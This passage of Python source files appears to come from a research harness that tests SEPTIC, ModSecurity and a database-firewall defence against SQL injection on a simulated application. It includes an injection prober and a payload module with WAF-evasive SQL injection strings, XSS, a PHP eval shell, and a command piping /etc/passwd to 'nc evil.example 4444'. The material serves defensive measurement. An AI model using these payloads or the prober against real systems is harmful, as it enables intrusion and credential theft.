        queries and static object downloads."""
        return [
            Request.get("/"),
            Request.get("/static/style.css"),
            Request.get("/static/logo.gif"),
            Request.get("/view", {"id": "1"}),
            Request.get("/search", {"q": "smith"}),
            Request.get("/group", {"group_id": "1"}),
            Request.post("/add", {"name": "Eve Adams",
                                  "email": "eve@example.com",
                                  "phone": "555-0005", "group_id": "2"}),
            Request.get("/"),
            Request.post("/edit", {"id": "2", "phone": "555-0099"}),
            Request.get("/view", {"id": "2"}),
            Request.get("/static/style.css"),
            Request.get("/group", {"group_id": "2"}),
        ]
