"""The attack corpus: cases, oracles and the driver.

Every :class:`AttackCase` binds payloads to WaspMon entry points and
carries a *success oracle*: a function deciding, from the responses (and
app state), whether the attack achieved its goal.  Benign cases (used for
false-positive measurement) are regular requests whose oracle checks
normal operation.
"""

import hashlib

from repro.attacks import payloads
from repro.web.http import Request

_ALICE_HASH = hashlib.md5(b"alicepw").hexdigest()


class AttackCase(object):
    """One attack: requests to send plus the success oracle."""

    __slots__ = ("name", "category", "channel", "description", "requests",
                 "oracle", "expected_detection")

    def __init__(self, name, category, channel, description, requests,
                 oracle, expected_detection=None):
        self.name = name
        #: SQLI / STORED_XSS / STORED_RFI / ...
        self.category = category
        #: semantic-mismatch channel: unicode / numeric-context / gbk /
        #: second-order / identifier-context / classic / stored
        self.channel = channel
        self.description = description
        self.requests = list(requests)
        #: oracle(app, responses) -> bool (did the attack succeed?)
        self.oracle = oracle
        #: the SEPTIC detection expected to fire: "structural" /
        #: "syntactical" / a plugin type / None (attack self-defeats)
        self.expected_detection = expected_detection

    def __repr__(self):
        return "AttackCase(%s)" % self.name


class AttackOutcome(object):
    """What happened when a case was run against a scenario."""

    __slots__ = ("case", "succeeded", "waf_blocked", "septic_blocked",
                 "firewall_blocked", "responses")

    def __init__(self, case, succeeded, waf_blocked, septic_blocked,
                 firewall_blocked, responses):
        self.case = case
        self.succeeded = succeeded
        self.waf_blocked = waf_blocked
        self.septic_blocked = septic_blocked
        self.firewall_blocked = firewall_blocked
        self.responses = responses

    @property
    def blocked(self):
        return self.waf_blocked or self.septic_blocked or \
            self.firewall_blocked

    def __repr__(self):
        flags = []
        if self.succeeded:
            flags.append("SUCCESS")
        if self.waf_blocked:
            flags.append("waf-blocked")
        if self.septic_blocked:
            flags.append("septic-blocked")
        if self.firewall_blocked:
            flags.append("fw-blocked")
        return "AttackOutcome(%s: %s)" % (
            self.case.name, ", ".join(flags) or "failed"
        )


def run_case(server, app, case):
    """Send the case's requests through *server* and apply the oracle.

    A case request may be a callable ``app -> Request`` for stages that
    depend on earlier stages' effects (e.g. the id of a device the first
    stage registered); it is resolved right before being sent.
    """
    responses = []
    for item in case.requests:
        request = item(app) if callable(item) else item
        responses.append(server.handle(request))
    waf_blocked = any(r.status == 403 for r in responses)
    septic_blocked = any(
        r.status >= 500 and "SEPTIC" in r.body for r in responses
    )
    firewall_blocked = any(
        r.status >= 500 and "database firewall" in r.body for r in responses
    )
    succeeded = False
    if not waf_blocked:
        try:
            succeeded = bool(case.oracle(app, responses))
        except Exception:
            succeeded = False
    return AttackOutcome(case, succeeded, waf_blocked, septic_blocked,
                         firewall_blocked, responses)


# ---------------------------------------------------------------------------
# Oracles
# ---------------------------------------------------------------------------

def _body(responses, index=-1):
    return responses[index].body


def _contains(*needles, **kwargs):
    index = kwargs.pop("index", -1)
    assert not kwargs

    def oracle(app, responses):
        body = _body(responses, index)
        return all(needle in body for needle in needles)

    return oracle


def _sleep_recorded(app, responses):
    outcome = app.php.last_outcome
    return outcome is not None and outcome.sleep_seconds > 0


def _differential(app, responses):
    """Blind-probe oracle: the two probe responses must both succeed and
    differ (the attacker gained a boolean side channel)."""
    if len(responses) < 2:
        return False
    a, b = responses[-2], responses[-1]
    return a.ok and b.ok and a.body != b.body


def _xss_stored(app, responses):
    """The raw payload must have landed in the readings table."""
    rows = app.database.table("readings").rows
    return any(
        row.get("comment") and "<" in row["comment"] and
        ("onerror" in row["comment"] or "script" in row["comment"]
         or "ontoggle" in row["comment"])
        for row in rows
    )


def _stored_payload(payload):
    def oracle(app, responses):
        rows = app.database.table("readings").rows
        return any(row.get("comment") == payload for row in rows)

    return oracle


def _feedback_has_alice_hash(app, responses):
    rows = app.database.table("feedback").rows
    return any(
        row.get("message") == _ALICE_HASH or row.get("author") == _ALICE_HASH
        for row in rows
    )


def _latest_device_history(app):
    """Stage-2 request for second-order cases: browse the history of the
    most recently registered device (the one stage 1 planted)."""
    rows = app.database.table("devices").rows
    latest = max((row["id"] for row in rows), default=0)
    return Request.get("/device/history2", {"device_id": str(latest)})


# ---------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------

def waspmon_attacks():
    """All attack cases against WaspMon, across every channel."""
    cases = []

    # -- second order ------------------------------------------------------
    cases.append(AttackCase(
        "second_order_unicode",
        "SQLI", "second-order+unicode",
        "Paper §II-D1: stage 1 injects through the U+02BC channel, making "
        "the application insert CONCAT(..., CHAR(39), ...) — a device "
        "named ev charger'--  — and stage 2 replays that stored name into "
        "the readings query, commenting out the ownership check on bob's "
        "ev charger.",
        [
            Request.post("/device/new", {
                "serial": "WM-666-X", "pin": "1111",
                "name": payloads.SECOND_ORDER_UNICODE_STAGE1,
                "location": "lab",
            }),
            _latest_device_history,
        ],
        _contains("7200"),
        expected_detection="structural",
    ))
    cases.append(AttackCase(
        "second_order_classic",
        "SQLI", "second-order",
        "ASCII flavour: stored name carries a quote (escaped at INSERT "
        "time, revived on reuse) building an OR tautology.",
        [
            Request.post("/device/new", {
                "serial": "WM-667-X", "pin": "1111",
                "name": payloads.SECOND_ORDER_CLASSIC, "location": "lab",
            }),
            _latest_device_history,
        ],
        _contains("7200"),
        expected_detection="structural",
    ))

    # -- numeric context -----------------------------------------------------
    cases.append(AttackCase(
        "numeric_tautology",
        "SQLI", "numeric-context",
        "Escaped-but-unquoted PIN: 0 OR 1=1 dumps every device.",
        [Request.get("/device", {"serial": "WM-100-A",
                                 "pin": payloads.NUMERIC_TAUTOLOGY})],
        _contains("WM-200-B", "WM-300-C"),
        expected_detection="structural",
    ))
    cases.append(AttackCase(
        "numeric_tautology_evasive",
        "SQLI", "numeric-context",
        "CRS-evasive variant without the x=y shape (0 OR pin).",
        [Request.get("/device", {"serial": "WM-100-A",
                                 "pin": payloads.NUMERIC_TAUTOLOGY_EVASIVE})],
        _contains("WM-200-B", "WM-300-C"),
        expected_detection="structural",
    ))
    cases.append(AttackCase(
        "numeric_union_dump",
        "SQLI", "numeric-context",
        "UNION SELECT through the numeric PIN dumps users and password "
        "hashes.",
        [Request.get("/device", {"serial": "WM-100-A",
                                 "pin": payloads.NUMERIC_UNION})],
        _contains(_ALICE_HASH),
        expected_detection="structural",
    ))
    cases.append(AttackCase(
        "numeric_piggyback",
        "SQLI", "numeric-context",
        "Stacked-query DROP: self-defeats because the connection has "
        "multi-statements disabled (like mysql_query).",
        [Request.get("/device", {"serial": "WM-100-A",
                                 "pin": payloads.NUMERIC_PIGGYBACK})],
        lambda app, responses: "readings" not in app.database.tables,
        expected_detection=None,
    ))
    cases.append(AttackCase(
        "numeric_sleep_blind",
        "SQLI", "numeric-context",
        "Time-based blind probe via SLEEP(2).",
        [Request.get("/device", {"serial": "WM-100-A",
                                 "pin": payloads.NUMERIC_SLEEP})],
        _sleep_recorded,
        expected_detection="structural",
    ))
    cases.append(AttackCase(
        "numeric_sleep_evasive",
        "SQLI", "numeric-context",
        "SLEEP/**/(2): the inline comment splits the CRS 942220 shape.",
        [Request.get("/device", {"serial": "WM-100-A",
                                 "pin": payloads.NUMERIC_SLEEP_EVASIVE})],
        _sleep_recorded,
        expected_detection="structural",
    ))

    # -- unicode confusables ----------------------------------------------------
    cases.append(AttackCase(
        "unicode_tautology",
        "SQLI", "unicode",
        "Every quote is U+02BC: invisible to escaping and to ASCII-minded "
        "WAF rules; MySQL's decoder turns them all into primes.",
        [Request.get("/history", {"serial": payloads.UNICODE_TAUTOLOGY})],
        _contains("950", "7200"),
        expected_detection="structural",
    ))
    cases.append(AttackCase(
        "unicode_mimicry",
        "SQLI", "unicode",
        "Paper Figure 4 over HTTP: serial ends with U+02BC AND 1=1--, "
        "preserving the node count; only the node-wise comparison (step "
        "2) can see it.",
        [Request.get("/device", {"serial": payloads.UNICODE_MIMICRY,
                                 "pin": "0"})],
        _contains("WM-100-A"),
        expected_detection="syntactical",
    ))
    cases.append(AttackCase(
        "unicode_union",
        "SQLI", "unicode",
        "UNION dump through the unicode quote channel (keyword-visible "
        "to the WAF, quote-invisible to the escaper).",
        [Request.get("/history", {"serial": payloads.UNICODE_UNION})],
        _contains(_ALICE_HASH),
        expected_detection="structural",
    ))

    # -- GBK escape eating ----------------------------------------------------------
    cases.append(AttackCase(
        "gbk_exfiltration",
        "SQLI", "gbk",
        "0xBF eats addslashes' backslash on the GBK connection; the live "
        "quote inserts a second row exfiltrating alice's password hash "
        "into the public feedback board.",
        [
            Request.post("/feedback", {
                "author": "eve", "message": payloads.GBK_EXFILTRATION,
            }),
            Request.get("/feedback/list"),
        ],
        _feedback_has_alice_hash,
        expected_detection="structural",
    ))

    # -- identifier context (ORDER BY) ----------------------------------------------
    cases.append(AttackCase(
        "orderby_blind",
        "SQLI", "identifier-context",
        "Blind boolean probe in ORDER BY via CASE WHEN; two probes give "
        "the attacker a differential oracle.",
        [
            Request.get("/search", {
                "min_watts": "0", "max_watts": "10000",
                "sort": "(CASE WHEN (SELECT COUNT(*) FROM users) > 0 "
                        "THEN watts ELSE taken_at END)",
            }),
            Request.get("/search", {
                "min_watts": "0", "max_watts": "10000",
                "sort": "(CASE WHEN (SELECT COUNT(*) FROM users) < 0 "
                        "THEN watts ELSE taken_at END)",
            }),
        ],
        _differential,
        expected_detection="structural",
    ))

    # -- classic attacks that sanitization legitimately stops -------------------------
    cases.append(AttackCase(
        "login_tautology_ascii",
        "SQLI", "classic",
        "Plain ASCII ' OR '1'='1 against the login: the escaping holds; "
        "included to show sanitization is not useless, just incomplete.",
        [Request.post("/login", {"username": payloads.LOGIN_TAUTOLOGY,
                                 "password": "x"})],
        _contains("Welcome"),
        expected_detection=None,
    ))

    # -- stored injection ---------------------------------------------------------------
    cases.append(AttackCase(
        "stored_xss_script",
        "STORED_XSS", "stored",
        "Paper §II-D2: <script>alert('Hello!');</script> as a reading "
        "comment (SQL-escaped, HTML-raw).",
        [Request.post("/reading", {"serial": "WM-100-A", "watts": "100",
                                   "comment": payloads.XSS_SCRIPT})],
        _xss_stored,
        expected_detection="STORED_XSS",
    ))
    cases.append(AttackCase(
        "stored_xss_evasive",
        "STORED_XSS", "stored",
        "ontoggle handler: outside CRS 941110's event list, inside what "
        "an HTML parser sees.",
        [Request.post("/reading", {"serial": "WM-100-A", "watts": "100",
                                   "comment": payloads.XSS_EVASIVE})],
        _xss_stored,
        expected_detection="STORED_XSS",
    ))
    cases.append(AttackCase(
        "stored_rfi",
        "STORED_RFI", "stored",
        "Remote shell URL stored for a later include().",
        [Request.post("/reading", {"serial": "WM-100-A", "watts": "100",
                                   "comment": payloads.RFI_URL})],
        _stored_payload(payloads.RFI_URL),
        expected_detection="STORED_RFI",
    ))
    cases.append(AttackCase(
        "stored_lfi",
        "STORED_LFI", "stored",
        "Path traversal to /etc/passwd stored for a later include().",
        [Request.post("/reading", {"serial": "WM-100-A", "watts": "100",
                                   "comment": payloads.LFI_TRAVERSAL})],
        _stored_payload(payloads.LFI_TRAVERSAL),
        expected_detection="STORED_LFI",
    ))
    cases.append(AttackCase(
        "stored_osci",
        "STORED_OSCI", "stored",
        "Shell command chain stored for a later exec().",
        [Request.post("/reading", {"serial": "WM-100-A", "watts": "100",
                                   "comment": payloads.OSCI_CHAIN})],
        _stored_payload(payloads.OSCI_CHAIN),
        # the payload also touches /etc/passwd, so the (earlier) LFI
        # plugin claims it; either classification blocks the write
        expected_detection="STORED_LFI",
    ))
    cases.append(AttackCase(
        "stored_rce_php",
        "STORED_RCE", "stored",
        "PHP eval payload stored for a later eval().",
        [Request.post("/reading", {"serial": "WM-100-A", "watts": "100",
                                   "comment": payloads.RCE_PHP})],
        _stored_payload(payloads.RCE_PHP),
        expected_detection="STORED_RCE",
    ))
    cases.append(AttackCase(
        "stored_rce_serialized",
        "STORED_RCE", "stored",
        "Serialized PHP object (object injection) stored for a later "
        "unserialize().",
        [Request.post("/reading", {"serial": "WM-100-A", "watts": "100",
                                   "comment": payloads.RCE_SERIALIZED})],
        _stored_payload(payloads.RCE_SERIALIZED),
        expected_detection="STORED_RCE",
    ))

    return cases


def benign_cases(app):
    """Benign traffic wrapped as cases expecting normal operation (the
    false-positive measurement set)."""
    cases = []
    for index, request in enumerate(app.benign_requests()):
        cases.append(AttackCase(
            "benign_%02d_%s" % (index, request.path.strip("/") or "home"),
            "BENIGN", "benign",
            "legitimate traffic",
            [request],
            lambda app_, responses: responses[-1].ok,
            expected_detection=None,
        ))
    return cases
