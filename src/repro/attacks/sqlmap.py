"""sqlmap-lite: an automated injection probe in the spirit of sqlmap.

The demo uses sqlmap from the attacker machine; this miniature version
implements the four detection techniques that matter for the demo —
boolean-based blind, error-based, UNION-based and time-based blind — and
probes each declared form field of an application.  It reports which
parameters are injectable under the current protection configuration,
so running it against the four scenarios shows the same contrast the
demo shows on stage.
"""


class Finding(object):
    """One injectable parameter, as established by one technique."""

    __slots__ = ("path", "method", "param", "technique", "payload")

    def __init__(self, path, method, param, technique, payload):
        self.path = path
        self.method = method
        self.param = param
        self.technique = technique
        self.payload = payload

    def __repr__(self):
        return "Finding(%s %s param=%s via %s)" % (
            self.method, self.path, self.param, self.technique
        )


#: probe pairs for boolean-based blind: (true variant, false variant)
_BOOLEAN_PROBES = [
    ("' AND '1'='1", "' AND '1'='2"),          # string context
    (" AND 1=1", " AND 1=2"),                  # numeric context
    ("ʼ AND ʼ1ʼ=ʼ1", "ʼ AND ʼ1ʼ=ʼ2"),          # unicode-quote context
]

_ERROR_PROBES = ["'", "\"", "ʼ", "')", "';"]

_TIME_PROBES = [" OR SLEEP(1)", "' OR SLEEP(1)-- ", "ʼ OR SLEEP(1)-- "]

_UNION_MAX_COLUMNS = 8


class SqlmapLite(object):
    """Probe driver.  ``server`` is the front door (WAF included);
    *app* is needed only to observe the SLEEP side channel."""

    def __init__(self, server, app, max_union_columns=_UNION_MAX_COLUMNS):
        self.server = server
        self.app = app
        self.max_union_columns = max_union_columns
        self.requests_sent = 0

    # -- low-level ---------------------------------------------------------

    def _send(self, form, param, value):
        from repro.web.http import Request

        params = form.benign_params()
        params[param] = value
        self.requests_sent += 1
        return self.server.handle(Request(form.method, form.path, params))

    # -- techniques -----------------------------------------------------------

    def _boolean_based(self, form, field):
        base = field.sample
        for true_suffix, false_suffix in _BOOLEAN_PROBES:
            r_true = self._send(form, field.name, base + true_suffix)
            r_false = self._send(form, field.name, base + false_suffix)
            r_base = self._send(form, field.name, base)
            if not (r_true.ok and r_false.ok and r_base.ok):
                continue
            if r_true.body == r_base.body and r_false.body != r_base.body:
                return base + true_suffix
        return None

    def _error_based(self, form, field):
        r_base = self._send(form, field.name, field.sample)
        if not r_base.ok:
            return None
        for probe in _ERROR_PROBES:
            response = self._send(form, field.name, field.sample + probe)
            if response.status >= 500 and "ERROR 1064" in response.body:
                return field.sample + probe
        return None

    def _union_based(self, form, field):
        marker = "0x53514c4d41505f4d41524b"  # hex('SQLMAP_MARK')
        for quote in ("", "'", "ʼ"):
            for columns in range(1, self.max_union_columns + 1):
                cells = [marker] * columns
                payload = "%s%s UNION SELECT %s-- " % (
                    field.sample, quote, ", ".join(cells)
                )
                response = self._send(form, field.name, payload)
                if response.ok and "SQLMAP_MARK" in response.body:
                    return payload
        return None

    def _time_based(self, form, field):
        for probe in _TIME_PROBES:
            before = self._total_sleep()
            response = self._send(form, field.name, field.sample + probe)
            if response.status == 403:
                continue
            if self._total_sleep() > before:
                return field.sample + probe
        return None

    def _total_sleep(self):
        outcome = self.app.php.last_outcome
        return 0.0 if outcome is None else outcome.sleep_seconds

    # -- driver ------------------------------------------------------------------

    def test_form(self, form):
        """Probe every field of one form; returns the findings."""
        findings = []
        techniques = [
            ("boolean-based blind", self._boolean_based),
            ("error-based", self._error_based),
            ("UNION query", self._union_based),
            ("time-based blind", self._time_based),
        ]
        for field in form.fields:
            for label, technique in techniques:
                payload = technique(form, field)
                if payload is not None:
                    findings.append(
                        Finding(form.path, form.method, field.name, label,
                                payload)
                    )
        return findings

    def test_application(self, forms=None):
        """Probe all (or the given) forms; returns all findings."""
        findings = []
        for form in (forms or self.server.app.forms):
            findings.extend(self.test_form(form))
        return findings
