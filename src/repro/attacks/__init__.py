"""Attack corpus and drivers.

* :mod:`repro.attacks.payloads` — the raw payload strings, organized by
  semantic-mismatch channel;
* :mod:`repro.attacks.corpus` — :class:`AttackCase` objects binding
  payloads to WaspMon entry points, with per-attack success oracles;
* :mod:`repro.attacks.scenario` — builders for the demo's protection
  configurations (none / ModSecurity / SEPTIC / both);
* :mod:`repro.attacks.sqlmap` — a miniature sqlmap: probes a form
  parameter with a payload battery and reports injectability.
"""

from repro.attacks.corpus import (
    AttackCase,
    AttackOutcome,
    benign_cases,
    run_case,
    waspmon_attacks,
)
from repro.attacks.scenario import Scenario, build_scenario

__all__ = [
    "AttackCase",
    "AttackOutcome",
    "benign_cases",
    "run_case",
    "waspmon_attacks",
    "Scenario",
    "build_scenario",
]
