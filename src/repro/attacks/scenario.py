"""Scenario builders for the demonstration's protection configurations.

A scenario is the full Figure 7 setup: database (optionally with SEPTIC
inside), application, web server (optionally behind ModSecurity).  SEPTIC
scenarios are trained exactly as the demo trains them: the benign inputs
are submitted through the application forms while SEPTIC is in training
mode, then the mode is switched to prevention (or detection).
"""

from repro.apps.waspmon import WaspMon
from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic, SepticConfig
from repro.sqldb.engine import Database
from repro.waf.modsecurity import ModSecurity
from repro.web.server import WebServer

#: protection configuration names ("dbfirewall" is the GreenSQL-style
#: SQL proxy of the paper's related work, §I / §II-B)
PROTECTIONS = ("none", "modsec", "septic", "septic+modsec", "dbfirewall")


class Scenario(object):
    """One assembled deployment."""

    __slots__ = ("protection", "database", "app", "server", "septic",
                 "waf", "firewalls")

    def __init__(self, protection, database, app, server, septic, waf,
                 firewalls=None):
        self.protection = protection
        self.database = database
        self.app = app
        self.server = server
        self.septic = septic
        self.waf = waf
        #: DatabaseFirewall proxies (dbfirewall protection only)
        self.firewalls = firewalls or []

    def __repr__(self):
        return "Scenario(%s)" % self.protection


def build_scenario(protection="none", app_class=WaspMon, paranoia_level=1,
                   septic_mode=Mode.PREVENTION, verbose_log=False,
                   training_passes=2, config=None):
    """Assemble a scenario.

    *protection* is one of :data:`PROTECTIONS`.  With SEPTIC enabled, the
    application's benign request series is replayed *training_passes*
    times in training mode before switching to *septic_mode* — replaying
    twice also exercises the demo's "a query processed twice creates its
    model only once" property.
    """
    if protection not in PROTECTIONS:
        raise ValueError("unknown protection %r" % protection)
    with_septic = "septic" in protection
    with_modsec = "modsec" in protection
    with_firewall = protection == "dbfirewall"

    septic = None
    if with_septic:
        septic = Septic(
            mode=Mode.TRAINING,
            config=config or SepticConfig(),
            logger=SepticLogger(verbose=verbose_log),
        )
    database = Database(name=app_class.name, septic=septic)
    app = app_class(database)
    waf = ModSecurity(paranoia_level=paranoia_level) if with_modsec else None
    server = WebServer(app, waf=waf)

    firewalls = []
    if with_firewall:
        # Interpose the SQL proxy between the application's connector(s)
        # and the DBMS — the paper's "between the application and the
        # DBMS" placement.
        from repro.waf.dbfirewall import DatabaseFirewall

        for php in _runtimes_of(app):
            proxy = DatabaseFirewall(php.connection)
            php.connection = proxy
            firewalls.append(proxy)

    # Warm/train through the application (identical traffic everywhere
    # so database contents match across scenarios).  SEPTIC learns in
    # training mode; the SQL proxy learns fingerprints in learning mode.
    for _ in range(training_passes):
        for request in app.benign_requests():
            app.handle(request)
    if with_septic:
        septic.mode = septic_mode
    for proxy in firewalls:
        proxy.enforce()

    return Scenario(protection, database, app, server, septic, waf,
                    firewalls)


def _runtimes_of(app):
    """All PhpRuntime instances of an application (WaspMon has a second,
    GBK-charset one for its legacy endpoint)."""
    from repro.web.app import PhpRuntime

    runtimes = []
    for value in vars(app).values():
        if isinstance(value, PhpRuntime):
            runtimes.append(value)
    return runtimes
