"""Raw attack payloads, organized by channel.

Unicode payloads write the confusable explicitly (``\\u02bc`` is the
MODIFIER LETTER APOSTROPHE the paper's second-order example uses).
"""

# -- unicode confusables (sanitizer-invisible quotes) ------------------------

#: the paper's §II-D1 stage-1 payload, generalized: an injection through
#: the unicode-quote channel that "leads the application to insert
#: concat(...)" — a device name assembled server-side as
#: ``ev charger'-- `` (CHAR(39) supplies the prime, exactly the paper's
#: concat trick).  Every quote in the payload itself is U+02BC, so
#: neither ``mysql_real_escape_string`` nor an ASCII-minded WAF reacts.
SECOND_ORDER_UNICODE_STAGE1 = (
    "zʼ), (ʼWM-666-Xʼ, 1111, 1, ʼlabʼ, ʼʼ, "
    "CONCAT(0x65762063686172676572, CHAR(39), 0x2d2d20))-- "
)

#: direct tautology where *every* quote is U+02BC (nothing for an
#: ASCII-minded WAF or escaper to see)
UNICODE_TAUTOLOGY = "xʼ OR ʼ1ʼ=ʼ1"

#: the paper's Figure 4 mimicry, via the unicode channel:
#: serial becomes WM-100-A' AND 1=1--  after DBMS decoding
UNICODE_MIMICRY = "WM-100-Aʼ AND 1=1-- "

#: union-based dump through the unicode channel (a WAF still sees the
#: UNION SELECT keywords — this one tests keyword rules, not quotes)
UNICODE_UNION = (
    "xʼ UNION SELECT username, password, role FROM users-- "
)

# -- numeric context (escaping is useless without quotes) --------------------

NUMERIC_TAUTOLOGY = "0 OR 1=1"
#: evasion variant: no ``x=y`` shape for CRS rule 942270 to match
NUMERIC_TAUTOLOGY_EVASIVE = "0 OR pin"
NUMERIC_UNION = "0 UNION SELECT id, username, password, role, 1 FROM users"
NUMERIC_PIGGYBACK = "0; DROP TABLE readings-- "
NUMERIC_SLEEP = "0 OR SLEEP(2)"
#: comment splits the function name from the parenthesis: CRS 942220
#: matches ``sleep\s*\(`` and misses this
NUMERIC_SLEEP_EVASIVE = "0 OR SLEEP/**/(2)"

# -- second order (ASCII flavour) --------------------------------------------

#: the quote is escaped at INSERT time (so the write succeeds and the
#: value is stored verbatim) and revives when the stored name is embedded
#: unescaped later: the ``-- `` comments out the ownership check
SECOND_ORDER_CLASSIC = "ev charger'-- "

# -- GBK escape-eating ---------------------------------------------------------

#: 0xBF + the quote; addslashes turns it into 0xBF 5C 27 and the GBK
#: decoder eats the 5C.  The live quote closes the first row and a second
#: row exfiltrates alice's password hash into the (publicly listed)
#: feedback table.  The payload is quote-free after the breakout
#: (0x70776e6564 = 'pwned') because addslashes would mangle any other
#: quote it contains.
GBK_EXFILTRATION = (
    "¿'), (0x70776e6564, (SELECT password FROM users WHERE id = 1))-- "
)

# -- identifier context (ORDER BY) ---------------------------------------------

ORDERBY_SUBQUERY = "(SELECT password FROM users LIMIT 1)"
ORDERBY_CASE_BLIND = (
    "(CASE WHEN (SELECT COUNT(*) FROM users) > 0 THEN watts "
    "ELSE taken_at END)"
)

# -- classic ASCII attacks (these sanitization DOES stop) -----------------------

LOGIN_TAUTOLOGY = "admin' OR '1'='1'-- "

# -- stored injection ---------------------------------------------------------------

XSS_SCRIPT = "<script>alert('Hello!');</script>"      # paper §II-D2
XSS_IMG_ONERROR = '<img src=x onerror=alert(1)>'
#: ontoggle is not in the CRS 941110 event-handler list → WAF misses it,
#: SEPTIC's HTML-parser plugin does not
XSS_EVASIVE = "<details open ontoggle=alert(1)>click</details>"
RFI_URL = "http://evil.example/shell.php?cmd=id"
LFI_TRAVERSAL = "../../../../etc/passwd"
OSCI_CHAIN = "; cat /etc/passwd | nc evil.example 4444"
RCE_PHP = "<?php eval($_GET['x']); ?>"
RCE_SERIALIZED = 'O:8:"Evil_Obj":1:{s:3:"cmd";s:6:"whoami";}'
