"""The streaming redo apply loop (a replica's only write path).

A replica ingests the primary's WAL records one at a time and maintains
the invariant that makes everything else in the subsystem simple: **its
own data directory is always a valid, recoverable WAL history** — the
same bytes, the same LSNs, the same committed-prefix semantics as the
primary's.  That falls out of two rules:

1. every shipped record is appended *verbatim* to the replica's own log
   (:meth:`~repro.sqldb.wal.WriteAheadLog.append_record`, preserving the
   primary's LSN) **before** it is applied — a replica crash between
   append and apply just replays the record on restart;
2. state only ever changes through the engine's redo path
   (:meth:`~repro.sqldb.engine.Database.redo_apply`, the exact code
   recovery runs) — never the public DML/executor path, so SEPTIC is
   bypassed (the statement already passed the hook on the primary) and
   replay determinism (virtual clock, RNG fast-forward) is inherited
   rather than re-implemented.  A lint gate keeps it that way.

Commit grouping mirrors ``Database._replay_records`` in streaming form:
autocommit statements apply immediately; transactional statements buffer
until their COMMIT marker arrives (ROLLBACK discards them).  The
:attr:`~ReplicaApplier.applied_lsn` watermark therefore only ever
advances at durability points — exactly the states a client could have
been acknowledged about — which is what promotion, staleness bounds and
checkpoint retention all key off.
"""

from repro import faults as faults_mod
from repro.sqldb import wal as wal_mod
from repro.sqldb.errors import WalError


class ReplicaApplier(object):
    """Tails shipped WAL records and applies committed units through
    the redo path of *database* (a WAL-attached replica instance)."""

    def __init__(self, database):
        self.database = database
        #: statement records of transactions whose COMMIT has not
        #: arrived yet, keyed by transaction id
        self._open_tx = {}
        #: LSN of the newest record ingested (and durably logged)
        self.last_seen_lsn = 0
        #: LSN of the newest *durability point* applied — the replica's
        #: committed-state watermark (promotion and retention use this)
        self.applied_lsn = 0
        #: statement records actually redone
        self.records_applied = 0
        #: committed units (autocommit statements + transactions) applied
        self.units_applied = 0
        #: shipped records skipped as already-ingested duplicates
        self.duplicates_skipped = 0
        self.resync()

    @property
    def in_flight(self):
        """Transactions currently buffered (shipped but uncommitted)."""
        return len(self._open_tx)

    def resync(self):
        """Align the applier with the database's recovered state.

        Called at construction and after a crash-restart
        (``database.reopen()``): recovery already applied every
        committed unit in the replica's own log, so the watermarks jump
        to the recovered frontier, and the statement records of
        transactions that were still open at the crash are re-buffered
        from the log — their COMMIT may yet arrive from the primary.
        """
        self._open_tx.clear()
        db = self.database
        self.last_seen_lsn = db.durable_lsn
        self.applied_lsn = db.durable_lsn
        if db.data_dir is None:
            return
        scan = wal_mod.scan_log(wal_mod.log_path(db.data_dir))
        applied = None
        for rec in scan.records:
            if rec.op == wal_mod.WalRecord.BEGIN:
                self._open_tx[rec.tx] = []
            elif rec.op == wal_mod.WalRecord.STMT:
                if rec.tx:
                    self._open_tx.setdefault(rec.tx, []).append(rec)
                else:
                    applied = rec.lsn
            elif rec.op == wal_mod.WalRecord.COMMIT:
                self._open_tx.pop(rec.tx, None)
                applied = rec.lsn
            elif rec.op == wal_mod.WalRecord.ROLLBACK:
                self._open_tx.pop(rec.tx, None)
        if self._open_tx:
            # open-tx statement records at the log tail are ingested but
            # not applied: the applied watermark stays at the last
            # durability point (everything before the log's first record
            # lives in the checkpoint and is fully applied)
            if applied is None:
                applied = (scan.records[0].lsn - 1 if scan.records
                           else db.durable_lsn)
            self.applied_lsn = applied

    def offer(self, record):
        """Ingest one shipped record.  Returns ``True`` when the record
        advanced the replica, ``False`` for an already-seen duplicate
        (re-ships after a rejected batch are idempotent).

        Records must arrive in LSN order — a gap means the primary's
        log rotated past this replica's position (the retention pin
        exists to prevent that), and raises
        :class:`~repro.sqldb.errors.WalError` rather than silently
        diverging.
        """
        if record.lsn <= self.last_seen_lsn:
            self.duplicates_skipped += 1
            return False
        if record.lsn != self.last_seen_lsn + 1:
            raise WalError(
                "replication gap: expected LSN %d, got %d (primary log "
                "rotated past this replica?)"
                % (self.last_seen_lsn + 1, record.lsn)
            )
        if faults_mod.ACTIVE is not None:
            faults_mod.fire("replica.apply")
        wal = self.database.wal
        durable = record.op == wal_mod.WalRecord.COMMIT or (
            record.op == wal_mod.WalRecord.STMT and record.tx == 0
        )
        if wal is not None:
            # log-before-apply: a crash right here replays on restart
            wal.append_record(record, durability_point=durable)
        self.last_seen_lsn = record.lsn
        if record.op == wal_mod.WalRecord.BEGIN:
            self._open_tx[record.tx] = []
        elif record.op == wal_mod.WalRecord.STMT:
            if record.tx:
                self._open_tx.setdefault(record.tx, []).append(record)
            else:
                self._apply_unit([record], record.lsn)
        elif record.op == wal_mod.WalRecord.COMMIT:
            self._apply_unit(self._open_tx.pop(record.tx, []), record.lsn)
        elif record.op == wal_mod.WalRecord.ROLLBACK:
            self._open_tx.pop(record.tx, None)
        return True

    def _apply_unit(self, records, commit_lsn):
        """Redo one committed unit and advance the applied watermark."""
        for rec in records:
            self.database.redo_apply(rec)
            self.records_applied += 1
        self.units_applied += 1
        self.applied_lsn = commit_lsn
        self.database.note_applied_lsn(commit_lsn)

    def discard_in_flight(self):
        """Drop buffered uncommitted transactions (promotion: units the
        dead primary never committed must not survive as phantoms).
        Returns the number of transactions discarded."""
        dropped = len(self._open_tx)
        self._open_tx.clear()
        return dropped

    def __repr__(self):
        return ("ReplicaApplier(applied_lsn=%d, seen=%d, units=%d, "
                "in_flight=%d)" % (self.applied_lsn, self.last_seen_lsn,
                                   self.units_applied, self.in_flight))
