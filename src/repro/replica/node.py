"""One member of a replica set: a database, its applier, and a role.

The node is where the two failover-safety mechanisms live:

* **fencing epochs** — every shipped batch and heartbeat carries the
  term of the primary that produced it.  A node tracks the highest
  epoch it has ever accepted and rejects anything older, so a *zombie*
  primary (partitioned away, unaware it was deposed) can keep producing
  records forever without any survivor applying one of them;
* **ship integrity** — each shipped record travels with a CRC32 over
  its canonical payload, recomputed on arrival.  A record corrupted in
  flight (the ``replica.ship`` fault site's ``corrupt`` kind) is
